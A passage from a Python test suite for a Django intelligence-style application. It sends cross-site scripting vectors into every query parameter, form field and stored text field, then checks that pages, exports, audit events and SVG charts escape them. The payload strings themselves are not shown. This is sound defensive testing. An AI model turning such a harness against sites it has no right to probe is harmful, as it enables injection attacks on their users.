    body: dict[str, Any] = {}
    for name in FORM_FIELDS:
        text = " ".join(next(vectors).text for _ in range(pack))
        body[name] = text if keep_nul else text.replace("\x00", "\ufffd")
    return body | fixed


# --- the test ----------------------------------------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.slow
def test_no_stored_or_reflected_xss_on_any_page_or_export(
    world: dict[str, Any],  # noqa: F811
    a_person: Any,
    client_for: Any,
) -> None:
    """IN-2: payloads in every text field, query parameter and form field of every URL; every answer parsed."""
    started = time.monotonic()
    top = a_person(roles=Role.values, clearance=Level.TOP_SECRET, compartments=["KESTREL"])
    planter = Planter()
    extra = plant_everything(world, planter)
    people = {"every role, TS, KESTREL": top, "administrator": world["people"]["administrator"]}
    people = {label: Person.objects.get(pk=person.pk) for label, person in people.items()}
    clients = {label: client_for(person) for label, person in people.items()}
    tally = Tally()
    patterns = list(named_patterns())
    vectors = itertools.cycle(VECTORS)
    sent: set[str] = set()

    def sending(body: dict[str, Any]) -> dict[str, Any]:
        sent.update(m.lower() for value in body.values() for m in _MARKER.findall(str(value)))
        return body

    # Reflected: every URL, GET with a vector in every query parameter (also as htmx asks), then POST with a vector
    # in every form field (following the redirect to the page that shows the result or the error).
    anonymous = Client()
    client = clients["every role, TS, KESTREL"]
    written_by_pages = (Agency, Case, Indicator, Judgment, PriorityScore, SurveillanceRequest, TierChange, WarningRule)
    before = {model: model.objects.count() for model in written_by_pages}
    for name, pattern in patterns:
        if name == "logout":
            continue
        for url in dict.fromkeys(url_for(name, pattern, world, c) for c in (world["public"], world["secret"])):
            for asker in (client, anonymous) if name in PUBLIC else (client,):
                for pack in ROUNDS:
                    response = asker.get(url, sending(hostile_query(vectors, pack)))
                    check_answer(f"GET {url} (reflected)", response, tally)
            response = client.get(url, sending(hostile_query(vectors, 12)), headers={"HX-Request": "true"})
            check_answer(f"GET {url} (reflected, htmx)", response, tally)
        url = url_for(name, pattern, world)
        ids = {"indicator": extra["indicator"].pk, "rule": extra["rule"].pk, "version": "1"}
        bodies = [hostile_form(vectors, True, **ids)]
        bodies += [hostile_form(vectors, False, 1, **ids | fixed) for fixed in VALID_FORMS.get(name, [])]
        if name == "cases:case-list":  # a new case filed through the page, its free text hostile
            profile = Case.objects.get(pk=world["public_case"].pk).profile_yaml
            posted = profile.replace("id: public-case", "id: posted-case")
            bodies.append({"profile": posted, "classification": "0", "compartment": ""})
        for body in bodies:
            asker = anonymous if name in PUBLIC else client
            if name.startswith("api:"):
                response = asker.post(url, sending(body), content_type="application/json")
            else:
                response = asker.post(url, sending(body), follow=True)
            check_answer(f"POST {url} (reflected)", response, tally)
    reflected_answers = tally.answers
    unsaved = [model.__name__ for model in written_by_pages if model.objects.count() <= before[model]]
    assert not unsaved, f"the valid forms should have saved hostile text through the pages: {unsaved}"
    assert WarningStatusChange.objects.filter(reason__regex=_MARKER.pattern).count() > 3

    # Stored: every URL read by both people, for the public and the SECRET//KESTREL records, and the exports.
    for label, reader in clients.items():
        for name, pattern in patterns:
            if name == "logout":
                continue
            countries = (world["public"], world["secret"], extra["real"])
            for url in dict.fromkeys(url_for(name, pattern, world, c) for c in countries):
                check_answer(f"GET {url} as {label}", reader.get(url), tally)
        for fmt in ("csv", "json"):
            response = reader.get(reverse("watchlist:export"), {"format": fmt})
            check_answer(f"export {fmt} as {label}", response, tally)
            assert response.status_code == 200
            assert response["Content-Type"].startswith("text/csv" if fmt == "csv" else "application/json")
            assert response["Content-Disposition"].startswith("attachment")

    # The audit log carried the payloads too (actor, object text, diff): read the events that hold them.
    hostile_events = [
        event
        for event in AuditEvent.objects.order_by("-seq")[:400]
        if _MARKER.search(f"{event.actor} {event.object_repr} {event.detail}")
    ]
    for column in ("actor", "object_repr", "detail"):
        assert any(_MARKER.search(str(getattr(event, column))) for event in hostile_events), column
    for event in hostile_events[:: max(1, len(hostile_events) // 12)]:
        url = reverse("audit:event", kwargs={"seq": event.seq})
        check_answer(f"GET {url} (audit event with payloads)", client.get(url), tally)
    stored_answers = tally.answers - reflected_answers

    missing_fields = sorted(f"{f} ({planter.fields[f]})" for f in STORED if planter.fields[f] < 3)
    unlanded = sorted({v.marker for v in VECTORS} - set(planter.landed))
    unsent = sorted({v.marker for v in VECTORS} - sent)
    elapsed = time.monotonic() - started
    report = (
        f"IN-2 XSS: {len(VECTORS)} vectors; {planter.values} hostile values stored in {len(planter.fields)} of"
        f" {len(text_fields())} text fields ({len(SKIPPED)} skipped with reasons); every vector stored"
        f" {min(planter.landed.values())}-{max(planter.landed.values())} times; {tally.answers} answers"
        f" ({reflected_answers} with reflected input, {stored_answers} reading stored input): {tally.html} HTML"
        f" parsed with html5lib, {tally.json} JSON, {tally.csv} CSV, {tally.other} other;"
        f" statuses {dict(sorted(tally.statuses.items()))}; {len(tally.markers_seen)} distinct markers seen in"
        f" answers; {elapsed:.1f} s;"
        f" {len(tally.failures)} failures\n"
    )
    fields_report = "".join(f"  stored {label}: {n} vectors\n" for label, n in sorted(planter.fields.items()))
    skipped_report = "".join(f"  skipped {field}: {why}\n" for field, why in sorted(SKIPPED.items()))
    ARTIFACTS.mkdir(exist_ok=True)
    refused_report = "".join(f"  answered {line}\n" for line in tally.refused)
    (ARTIFACTS / "xss.txt").write_text(
        report + fields_report + skipped_report + refused_report + "\n".join(tally.failures[:500])
    )
    print(report)
    assert not missing_fields, f"fewer than 3 vectors stored in {missing_fields}"
    assert not unlanded, f"vectors never stored: {unlanded}"
    assert not unsent, f"vectors never sent: {unsent}"
    assert len(tally.markers_seen) > 150, "the payloads should be shown (escaped) on the pages"
    assert not tally.failures, "\n".join(tally.failures[:60])


# --- the SVGs and the portion tag, directly -----------------------------------------------------------------------
def _svg_document(svg: str) -> str:
    return f"<!DOCTYPE html><html><head><title>t</title></head><body>{svg}</body></html>"


def test_the_server_side_svgs_and_the_portion_mark_escape_hostile_names() -> None:
    """The world map's tooltips, the charts' labels and the portion mark, fed hostile text: no element or
    attribute made from it, and the text itself is shown."""
    texts = [v.text for v in VECTORS]
    codes = sorted(shapes())[: len(texts)]
    fills = {code: ("#b50909", text) for code, text in zip(codes, texts, strict=False)}
    findings = dom_findings(_svg_document(world_map_svg(fills)))
    # The risk history chart draws numbers only (base years and risks); it is checked to parse cleanly.
    history = [SimpleNamespace(run=SimpleNamespace(base_year=2000 + i), risk_2yr=0.1 * i) for i in range(5)]
    findings += dom_findings(_svg_document(risk_history_svg(history)))
    series = pd.Series({text: float(i) for i, text in enumerate(texts)})
    findings += dom_findings(_svg_document(series_svg(series)))
    template = Template("{% load lemkin %}{% portion record %}{% hidden_marks records %}")
    for text in texts:
        hostile = SimpleNamespace(banner=text, portion=text)
        record = SimpleNamespace(marking=hostile)
        rendered = template.render(Context({"record": record, "records": [record]}))
        findings += dom_findings(_svg_document(rendered))
    assert not findings, findings[:20]
    shown = _svg_document(world_map_svg(fills))
    assert "xss0001" in shown
    assert "&lt;script&gt;" in shown
